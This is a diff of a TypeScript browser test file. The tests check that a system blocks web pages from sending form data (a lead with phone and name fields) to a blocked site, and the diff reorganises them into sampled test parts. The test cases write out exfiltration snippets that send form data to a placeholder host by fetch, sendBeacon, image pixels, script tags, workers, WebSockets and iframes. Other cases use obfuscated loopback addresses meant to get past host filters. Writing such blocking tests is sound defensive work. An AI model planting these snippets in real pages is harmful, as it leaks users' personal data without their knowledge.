@@ -5,6 +5,7 @@ import { createServer, type IncomingMessage, type Server } from 'node:http';
 import type { Duplex } from 'node:stream';
 import { launchBrowser } from '../../../../functions/browser/chromium/launch-browser.ts';
 import { originHash, originKey } from '../../../../functions/stores/origins/origin-key.ts';
+import { casesOf, every, inPart } from '../../../part.ts';
 import { BROWSER_TEST_MS } from '../../../time-limits.ts';
 import { nextEvent } from '../../../until.ts';
 import { listen } from '../../local-aws.ts';
@@ -103,38 +104,58 @@ async function outcome(given: string, site = awayUrl): Promise<string> {
   return result.failure.reason;
 }
 
-describe('a page that sends the lead to a blocked site only', () => {
-  test.each([
-    ['fetch', "await fetch('SITE/lead', { method: 'POST', body: data, mode: 'no-cors' })"],
-    [
-      'fetch in JSON',
-      "await fetch('SITE/lead', { method: 'POST', body: JSON.stringify(Object.fromEntries(data)) })",
-    ],
-    ['sendBeacon', "navigator.sendBeacon('SITE/lead', data)"],
-    ['an image', "new Image().src = 'SITE/pixel?tel=' + encodeURIComponent(form.phone.value)"],
-    [
-      'a script',
-      "document.head.append(Object.assign(document.createElement('script'), { src: 'SITE/x.js?n=' + encodeURIComponent(form.name.value || form.elements.name.value) }))",
-    ],
-    ['an encoded body', "await fetch('SITE/lead', { method: 'POST', body: btoa(data) })"],
-    [
-      'a worker',
-      'const code = \'onmessage = ({ data }) => fetch("SITE/lead", { method: "POST", body: data })\'; new Worker(URL.createObjectURL(new Blob([code]))).postMessage(String(data)); await new Promise((done) => setTimeout(done, 300))',
-    ],
-    [
-      'a WebSocket',
-      "const socket = new WebSocket('SITE/live'.replace('http', 'ws')); socket.onopen = () => socket.send(String(data))",
-    ],
-    [
-      'a frame',
-      "document.body.append(Object.assign(document.createElement('iframe'), { src: 'SITE/frame?' + data }))",
-    ],
-  ])('by %s sends nothing and ends blocked', async (_name, send) => {
-    expect(await outcome(insteadOfSubmit(send))).toBe('blocked');
-    expect(arrived).toEqual({ home: [], away: [] });
-  });
+const ways = [
+  ['fetch', "await fetch('SITE/lead', { method: 'POST', body: data, mode: 'no-cors' })"],
+  [
+    'fetch in JSON',
+    "await fetch('SITE/lead', { method: 'POST', body: JSON.stringify(Object.fromEntries(data)) })",
+  ],
+  ['sendBeacon', "navigator.sendBeacon('SITE/lead', data)"],
+  ['an image', "new Image().src = 'SITE/pixel?tel=' + encodeURIComponent(form.phone.value)"],
+  [
+    'a script',
+    "document.head.append(Object.assign(document.createElement('script'), { src: 'SITE/x.js?n=' + encodeURIComponent(form.name.value || form.elements.name.value) }))",
+  ],
+  ['an encoded body', "await fetch('SITE/lead', { method: 'POST', body: btoa(data) })"],
+  [
+    'a worker',
+    'const code = \'onmessage = ({ data }) => fetch("SITE/lead", { method: "POST", body: data })\'; new Worker(URL.createObjectURL(new Blob([code]))).postMessage(String(data)); await new Promise((done) => setTimeout(done, 300))',
+  ],
+  [
+    'a WebSocket',
+    "const socket = new WebSocket('SITE/live'.replace('http', 'ws')); socket.onopen = () => socket.send(String(data))",
+  ],
+  [
+    'a frame',
+    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'SITE/frame?' + data }))",
+  ],
+] as const;
 
-  test.each(['[::ffff:127.0.0.1]', '0x7f.1', '2130706433', '127.0.0.1.'])(
+const besides = [
+  ['a copy by sendBeacon', besideSubmit("navigator.sendBeacon('SITE/lead', data)")],
+  [
+    'a copy by sendBeacon some time before its submit',
+    insteadOfSubmit(
+      "navigator.sendBeacon('SITE/lead', data); await new Promise((done) => setTimeout(done, 400)); form.submit(); await new Promise(() => undefined)",
+    ),
+  ],
+  [
+    'a redirect of its fetch',
+    insteadOfSubmit("await fetch('/moved', { method: 'POST', body: data })"),
+  ],
+  ['a redirect of its submit', besideSubmit("form.action = '/moved'")],
+] as const;
+
+describe('a page that sends the lead to a blocked site only', () => {
+  test.each(casesOf(ways, every(3)))(
+    'by %s sends nothing and ends blocked',
+    async (_name, send) => {
+      expect(await outcome(insteadOfSubmit(send))).toBe('blocked');
+      expect(arrived).toEqual({ home: [], away: [] });
+    },
+  );
+
+  test.each(casesOf(['[::ffff:127.0.0.1]', '0x7f.1', '2130706433', '127.0.0.1.'], every(4)))(
     'spelled %s sends nothing and ends blocked',
     async (host) => {
       const { port } = new URL(awayUrl);
@@ -144,44 +165,35 @@ describe('a page that sends the lead to a blocked site only', () => {
     },
   );
 
-  test('by a WebSocket that was open before sends nothing', async () => {
-    const send = 'socket.send(String(data))';
-    const open = "const socket = new WebSocket('SITE/live'.replace('http', 'ws'));";
-    expect(await outcome(open + insteadOfSubmit(send))).toBe('blocked');
-    expect(arrived.away.filter((what) => what !== 'UPGRADE /live')).toEqual([]);
+  inPart('quick', () => {
+    test('by a WebSocket that was open before sends nothing', async () => {
+      const send = 'socket.send(String(data))';
+      const open = "const socket = new WebSocket('SITE/live'.replace('http', 'ws'));";
+      expect(await outcome(open + insteadOfSubmit(send))).toBe('blocked');
+      expect(arrived.away.filter((what) => what !== 'UPGRADE /live')).toEqual([]);
+    });
   });
 });
 
 describe('a page that sends the lead elsewhere too', () => {
-  test.each([
-    ['a copy by sendBeacon', besideSubmit("navigator.sendBeacon('SITE/lead', data)")],
-    [
-      'a copy by sendBeacon some time before its submit',
-      insteadOfSubmit(
-        "navigator.sendBeacon('SITE/lead', data); await new Promise((done) => setTimeout(done, 400)); form.submit(); await new Promise(() => undefined)",
-      ),
-    ],
-    [
-      'a redirect of its fetch',
-      insteadOfSubmit("await fetch('/moved', { method: 'POST', body: data })"),
-    ],
-    ['a redirect of its submit', besideSubmit("form.action = '/moved'")],
-  ])('with %s ends as outcome_unknown', async (_name, given) => {
+  test.each(casesOf(besides, every(2)))('with %s ends as outcome_unknown', async (_name, given) => {
     expect(await outcome(given)).toBe('outcome_unknown');
     expect(arrived.away).toEqual([]);
     expect(arrived.home.length).toBeGreaterThan(0);
   });
 });
 
-test('requests without the lead, or to other sites, change nothing', async () => {
-  const other = homeUrl.replace('127.0.0.1', 'localhost');
-  const given = `
+inPart('quick', () => {
+  test('requests without the lead, or to other sites, change nothing', async () => {
+    const other = homeUrl.replace('127.0.0.1', 'localhost');
+    const given = `
     document.head.append(Object.assign(document.createElement('script'), { src: 'SITE/lib.js' }));
     ${besideSubmit(`navigator.sendBeacon('SITE/seen', 'submit'); navigator.sendBeacon('${other}/copy', data);`)}`;
-  expect(await outcome(given)).toBe('success');
-  expect(arrived.away).toEqual(['GET /lib.js ']);
-  expect(arrived.home.some((what) => what.startsWith('POST /copy '))).toBe(true);
-  expect(arrived.home.some((what) => what.startsWith('POST /form '))).toBe(true);
+    expect(await outcome(given)).toBe('success');
+    expect(arrived.away).toEqual(['GET /lib.js ']);
+    expect(arrived.home.some((what) => what.startsWith('POST /copy '))).toBe(true);
+    expect(arrived.home.some((what) => what.startsWith('POST /form '))).toBe(true);
+  });
 });
 
 async function bodyOf(request: IncomingMessage): Promise<string> {
